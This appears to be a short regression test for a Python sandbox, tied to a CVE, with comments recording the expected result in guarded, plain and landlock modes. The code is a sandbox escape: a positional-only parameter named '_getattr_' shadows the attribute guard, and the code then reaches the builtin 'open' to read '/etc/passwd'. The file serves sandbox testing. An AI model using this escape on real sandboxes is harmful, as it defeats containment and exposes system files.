# CVE-2026-55830: a positional-only parameter takes the name of a guard.
# guarded: rejected dunder_attribute
# plain: returns "ENOENT"
# landlock: returns "EACCES"
def leak(_getattr_, /):
    return len.__self__.open, _getattr_.__globals__


attempt(leak(lambda *_: 0)[0], "/etc/passwd")
